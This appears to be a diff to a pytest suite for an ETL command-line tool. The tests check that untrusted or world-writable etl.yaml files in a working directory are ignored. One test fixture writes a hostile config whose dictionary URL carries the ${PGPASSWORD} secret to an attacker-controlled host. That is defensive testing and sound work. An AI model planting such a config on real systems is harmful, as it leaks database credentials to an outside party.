@@ -115,7 +115,7 @@ def test_the_etl_yaml_of_a_study_is_not_taken(user, attacker, own_commons, args)
     study = user.cwd / "studies/Evil"
     write(study, f"gen3: {{endpoint: '{attacker.url}'}}\ndictionary: '{attacker.url}/d?${{PGPASSWORD}}'\nsearch: {{url: '{attacker.url}'}}\n")
     ran = user(*args, cwd=study)
-    assert ran.stderr.count("etl.yaml in the working directory is not used") == 1, ran
+    assert ran.stderr.count("etl.yaml is not used: ") == 1, ran
     assert attacker.received == []
     if args[0] not in ("projects", "files"):
         assert own_commons.received, f"the user's own commons was to be asked\n{ran}"
@@ -178,7 +178,7 @@ def test_an_etl_yaml_that_others_may_write_is_not_taken(user, mode, group, why):
     file.chmod(mode)
     ran = user("config", "show", "-o", "json", cwd=file.parent)
     assert ("not used" in ran.stderr) == bool(why) and why in ran.stderr, ran
-    assert {row["key"]: row["origin"] for row in ran.json()}["threads"] == ("etl.yaml:1" if not why else "default: all cores")
+    assert {row["key"]: row["origin"] for row in ran.json()}["threads"] == (f"{file}:1" if not why else "default: all cores")
 
 
 @pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files away")
